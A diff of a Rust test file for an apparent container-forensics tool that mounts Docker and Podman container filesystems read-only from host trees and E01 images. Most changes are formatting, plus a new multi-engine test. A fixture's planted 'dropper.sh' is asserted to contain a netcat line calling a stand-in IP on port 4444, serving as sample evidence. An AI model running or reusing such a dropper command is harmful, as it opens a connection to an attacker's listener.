@@ -149,7 +149,7 @@ impl Drop for Mounted {
 /// mounts a container (without its upper dir's write side).
 /// An empty directory is added at the bottom: overlayfs wants two lower
 /// directories at least, and an empty one adds nothing.
-struct Overlay(tempfile::TempDir, tempfile::TempDir);
+struct Overlay(tempfile::TempDir, #[allow(dead_code)] tempfile::TempDir);
 
 impl Overlay {
     fn mount(lowers: &[PathBuf]) -> Option<Overlay> {
@@ -231,9 +231,7 @@ fn xattrs(p: &Path) -> Vec<(Vec<u8>, Vec<u8>)> {
         let cn = CString::new(name).expect("name");
         let mut v = vec![0u8; 65536];
         // SAFETY: as above.
-        let k = unsafe {
-            libc::lgetxattr(c.as_ptr(), cn.as_ptr(), v.as_mut_ptr().cast(), v.len())
-        };
+        let k = unsafe { libc::lgetxattr(c.as_ptr(), cn.as_ptr(), v.as_mut_ptr().cast(), v.len()) };
         v.truncate(k.max(0) as usize);
         out.push((name.to_vec(), v));
     }
@@ -286,9 +284,12 @@ fn snapshot(root: &Path, f: Fields) -> (BTreeMap<String, Entry>, BTreeSet<Vec<St
             ctime: (f.ctime && !t.is_dir()).then_some((m.ctime(), m.ctime_nsec())),
             nlink: (!t.is_dir()).then_some(m.nlink()),
             rdev: (t.is_char_device() || t.is_block_device()).then_some(m.rdev()),
-            target: t
-                .is_symlink()
-                .then(|| std::fs::read_link(&p).expect("readlink").into_os_string().into_vec()),
+            target: t.is_symlink().then(|| {
+                std::fs::read_link(&p)
+                    .expect("readlink")
+                    .into_os_string()
+                    .into_vec()
+            }),
             xattrs: x,
             sha256,
         };
@@ -341,7 +342,10 @@ fn assert_same(
         "{what}: names missing from the mount"
     );
     for (k, w) in &want.0 {
-        assert_eq!(&got.0[k], w, "{what}: {k} differs (left: mount, right: oracle)");
+        assert_eq!(
+            &got.0[k], w,
+            "{what}: {k} differs (left: mount, right: oracle)"
+        );
     }
     assert_eq!(got.1, want.1, "{what}: hard-link groups differ");
 }
@@ -363,12 +367,7 @@ fn container_dirs(host: &Path, id: &str) -> Vec<PathBuf> {
     let layer = d.join("overlay2").join(mount_id.trim());
     let lower = std::fs::read_to_string(layer.join("lower")).expect("lower");
     let mut dirs = vec![layer.join("diff")];
-    dirs.extend(
-        lower
-            .trim()
-            .split(':')
-            .map(|l| d.join("overlay2").join(l)),
-    );
+    dirs.extend(lower.trim().split(':').map(|l| d.join("overlay2").join(l)));
     // The lower chain names `l/<short>` symlinks to the layers' diff dirs.
     dirs.iter()
         .map(|p| p.canonicalize().expect("layer dir"))
@@ -457,7 +456,11 @@ fn image_view_at_every_layer_equals_the_kernel_overlay() {
             return;
         };
         let m = Mounted::start(&[OsStr::new(tag), h.as_os_str()]);
-        assert_same(tag, &snapshot(m.path(), ALL), &snapshot(kernel.0.path(), ALL));
+        assert_same(
+            tag,
+            &snapshot(m.path(), ALL),
+            &snapshot(kernel.0.path(), ALL),
+        );
     }
 }
 
@@ -468,7 +471,10 @@ fn apply_layer(tar_path: &Path, dst: &Path) {
     for e in ar.entries().expect("entries") {
         let mut e = e.expect("entry");
         let path = e.path().expect("path").into_owned();
-        let name = path.file_name().map(|n| n.as_bytes().to_vec()).unwrap_or_default();
+        let name = path
+            .file_name()
+            .map(|n| n.as_bytes().to_vec())
+            .unwrap_or_default();
         let parent = dst.join(path.parent().unwrap_or(Path::new("")));
         if name == b".wh..wh..opq" {
             for c in std::fs::read_dir(&parent).into_iter().flatten().flatten() {
@@ -534,7 +540,12 @@ fn image_view_equals_its_layer_tars_applied() {
     let applied = tempfile::tempdir().expect("applied");
     // Start from an empty root with the view's root attributes checked
     // separately: a tar does not carry its root.
-    for (i, diff_id) in img["diff_ids"].as_array().expect("diff_ids").iter().enumerate() {
+    for (i, diff_id) in img["diff_ids"]
+        .as_array()
+        .expect("diff_ids")
+        .iter()
+        .enumerate()
+    {
         let tar = dir.join(format!("layer_{i}/layer.tar"));
         // The tar is the engine's own: its sha256 is the diff_id it gave.
         assert_eq!(
@@ -561,18 +572,22 @@ fn image_view_equals_its_layer_tars_applied() {
             e.nlink = None;
         }
     }
-    assert_same("fixture/tool:2 vs its layer tars", &(got, got_links), &(want, want_links));
+    assert_same(
+        "fixture/tool:2 vs its layer tars",
+        &(got, got_links),
+        &(want, want_links),
+    );
 }
 
-/// `docker diff` as the engine printed it for evil-web, checked on a
-/// mounted view: added paths there, deleted ones not.
-fn assert_docker_diff(root: &Path) {
-    let c = expected("basic")["containers"]
+/// The engine's own `diff` of container `name` of `fixture`, checked on
+/// a mounted view: added and changed paths there, deleted ones not.
+fn assert_engine_diff(fixture: &str, name: &str, root: &Path) {
+    let c = expected(fixture)["containers"]
         .as_array()
         .expect("containers")
         .iter()
-        .find(|c| c["name"] == "evil-web")
-        .expect("evil-web")
+        .find(|c| c["name"] == name)
+        .unwrap_or_else(|| panic!("{name} in {fixture}"))
         .clone();
     let mut checked = 0;
     for line in c["diff"].as_array().expect("diff") {
@@ -580,13 +595,24 @@ fn assert_docker_diff(root: &Path) {
         let (kind, path) = line.split_at(2);
         let p = root.join(path.trim_start_matches('/'));
         match kind.trim() {
-            "A" | "C" => assert!(std::fs::symlink_metadata(&p).is_ok(), "{line}: not there"),
-            "D" => assert!(std::fs::symlink_metadata(&p).is_err(), "{line}: still there"),
+            "A" | "C" => assert!(
+                std::fs::symlink_metadata(&p).is_ok(),
+                "{fixture} {name}: {line}: not there"
+            ),
+            "D" => assert!(
+                std::fs::symlink_metadata(&p).is_err(),
+                "{fixture} {name}: {line}: still there"
+            ),
             k => panic!("unknown change kind {k}"),
         }
         checked += 1;
     }
     assert!(checked >= 3);
+}
+
+/// evil-web's diff, and its dropper's content.
+fn assert_docker_diff(root: &Path) {
+    assert_engine_diff("basic", "evil-web", root);
     assert_eq!(
         std::fs::read(root.join("tmp/dropper.sh")).expect("dropper.sh"),
         b"#!/bin/sh\nnc 198.51.100.7 4444\n"
@@ -605,7 +631,10 @@ fn container_view_shows_docker_diff_and_refuses_every_write() {
         let e = r.expect_err(what);
         assert_eq!(e.raw_os_error(), Some(EROFS), "{what}: {e}");
     };
-    erofs("create", std::fs::File::create(root.join("new")).map(|_| ()));
+    erofs(
+        "create",
+        std::fs::File::create(root.join("new")).map(|_| ()),
+    );
     erofs(
         "open for writing",
         std::fs::OpenOptions::new()
@@ -618,7 +647,10 @@ fn container_view_shows_docker_diff_and_refuses_every_write() {
     erofs("rmdir", std::fs::remove_dir(root.join("tmp")));
     erofs("rename", std::fs::rename(&file, root.join("tmp/x")));
     erofs("link", std::fs::hard_link(&file, root.join("tmp/x")));
-    erofs("symlink", std::os::unix::fs::symlink("x", root.join("tmp/x")));
+    erofs(
+        "symlink",
+        std::os::unix::fs::symlink("x", root.join("tmp/x")),
+    );
     use std::os::unix::fs::PermissionsExt;
     erofs(
         "chmod",
@@ -627,9 +659,7 @@ fn container_view_shows_docker_diff_and_refuses_every_write() {
     erofs("chown", std::os::unix::fs::lchown(&file, Some(1), Some(1)));
     let c = CString::new(file.as_os_str().as_bytes()).expect("path");
     // SAFETY: valid NUL-terminated strings and buffer.
-    let r = unsafe {
-        libc::lsetxattr(c.as_ptr(), c"user.x".as_ptr(), b"1".as_ptr().cast(), 1, 0)
-    };
+    let r = unsafe { libc::lsetxattr(c.as_ptr(), c"user.x".as_ptr(), b"1".as_ptr().cast(), 1, 0) };
     assert_eq!(r, -1);
     assert_eq!(std::io::Error::last_os_error().raw_os_error(), Some(EROFS));
     // And the command-line tools examiners would reach for.
@@ -763,11 +793,22 @@ fn sigterm_and_umount_end_cleanly_and_provenance_is_opt_in() {
     )
     .expect("provenance is JSON");
     assert_eq!(doc["command"], "mount");
-    assert_eq!(doc["target"]["container_id"], container_id("basic", "evil-web"));
-    let st = Command::new("umount").arg(m.path()).status().expect("umount");
+    assert_eq!(
+        doc["target"]["container_id"],
+        container_id("basic", "evil-web")
+    );
+    let st = Command::new("umount")
+        .arg(m.path())
+        .status()
+        .expect("umount");
     assert!(st.success());
     let st = m.wait();
-    assert_eq!(st.code(), Some(0), "exit status after umount: {}", m.stderr());
+    assert_eq!(
+        st.code(),
+        Some(0),
+        "exit status after umount: {}",
+        m.stderr()
+    );
 }
 
 #[test]
@@ -801,6 +842,46 @@ fn usage_errors() {
         mp.path().as_os_str(),
     ]);
     assert_eq!(r.code, 1, "{}", r.stderr);
-    assert!(r.stderr.contains("no image and no container"), "{}", r.stderr);
+    assert!(
+        r.stderr.contains("no image and no container"),
+        "{}",
+        r.stderr
+    );
     assert!(!mounted(mp.path()));
+}
+
+#[test]
+fn docker29_and_podman5_containers_from_host_tree_and_e01() {
+    if !fuse_ready() {
+        return;
+    }
+    for (fixture, name) in [("moby29", "evil-web"), ("podman5", "builder-run")] {
+        let e01 = fixtures_dir().join(format!("{fixture}.disk.E01"));
+        let Some(h) = host(fixture) else { return };
+        if !e01.exists() {
+            skip(&format!("{} not found", e01.display()));
+            return;
+        }
+        let from_dir = Mounted::start(&[OsStr::new(name), h.as_os_str()]);
+        let from_e01 = Mounted::start(&[OsStr::new(name), e01.as_os_str()]);
+        assert_engine_diff(fixture, name, from_dir.path());
+        assert_engine_diff(fixture, name, from_e01.path());
+        let fields = Fields {
+            ctime: false,
+            owners: true,
+            times: true,
+            nanos: false,
+            xattrs: true,
+        };
+        assert_same(
+            &format!("{fixture} {name} from E01 vs host tree"),
+            &snapshot(from_e01.path(), fields),
+            &snapshot(from_dir.path(), fields),
+        );
+    }
+    // The issue's own case: Docker 29's evil-web from its E01.
+    let e01 = fixtures_dir().join("moby29.disk.E01");
+    let m = Mounted::start(&[OsStr::new("evil-web"), e01.as_os_str()]);
+    assert!(m.path().join("tmp/dropper.sh").is_file());
+    assert!(!m.path().join("srv/app/hello.txt").exists());
 }
